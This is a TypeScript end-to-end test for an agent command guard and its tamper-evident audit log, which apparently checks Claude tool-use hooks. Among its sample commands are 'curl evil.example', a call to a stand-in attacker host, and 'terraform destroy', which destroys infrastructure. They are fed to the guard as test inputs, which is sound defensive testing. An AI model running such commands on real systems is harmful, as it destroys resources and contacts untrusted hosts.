import { cpSync } from "node:fs";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import Database from "better-sqlite3";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { createTempRepo, type TempRepo } from "../../src/test-support/temp-repo.js";
import { runJig } from "./run-jig.js";

const AGENTS = fileURLToPath(new URL("../../src/agents/__fixtures__/agents", import.meta.url));
type Row = Record<string, unknown>;

describe("jig audit verify (e2e)", () => {
  let repo: TempRepo;
  beforeEach(() => {
    repo = createTempRepo("jig-e2e-audit-");
    cpSync(AGENTS, join(repo.dir, "agents"), { recursive: true });
    repo.commit("base");
    for (const command of ["npm test", "git status", "curl evil.example", "terraform destroy"]) {
      runJig(["guard", "claude-hook", "--agent", "coder"], {
        cwd: repo.dir,
        input: JSON.stringify({
          hook_event_name: "PreToolUse",
          cwd: repo.dir,
          tool_name: "Bash",
          tool_input: { command },
        }),
        env: { JIG_GUARD_DAEMON: "off" },
      });
    }
  });
  afterEach(() => repo.cleanup());

  const tamper = (change: (db: Database.Database, rows: Row[]) => void): void => {
    const db = new Database(join(repo.dir, ".jig", "jig.db"));
    try {
      change(db, db.prepare("SELECT * FROM audit_log ORDER BY seq").all() as Row[]);
    } finally {
      db.close();
    }
  };
  const verify = () => runJig(["audit", "verify"], { cwd: repo.dir });

  it("passes an untouched log of every hook decision", () => {
    const result = verify();
    expect(result.code, result.stderr).toBe(0);
    expect(result.stdout).toContain("4 records");
  });

  it("fails with exit 1 on an edited record", () => {
    tamper((db) => db.prepare("UPDATE audit_log SET decision = 'allow' WHERE seq = 3").run());
    const result = verify();
    expect(result.code).toBe(1);
    expect(result.stdout).toContain("record 3: edited");
  });

  it("fails with exit 1 on a deleted record", () => {
    tamper((db) => db.prepare("DELETE FROM audit_log WHERE seq = 2").run());
    const result = verify();
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/deleted/);
  });

  it("fails with exit 1 on reordered records", () => {
    tamper((db, rows) => {
      const [first, second, third, fourth] = rows as [Row, Row, Row, Row];
      db.prepare("DELETE FROM audit_log").run();
      const columns = Object.keys(first);
      const insert = db.prepare(
        `INSERT INTO audit_log (${columns.join(", ")}) VALUES (${columns.map((column) => `@${column}`).join(", ")})`,
      );
      for (const row of [first, { ...third, seq: 2 }, { ...second, seq: 3 }, fourth])
        insert.run(row);
    });
    const result = verify();
    expect(result.code).toBe(1);
    expect(result.stdout).toMatch(/reordered|edited/);
  });
});
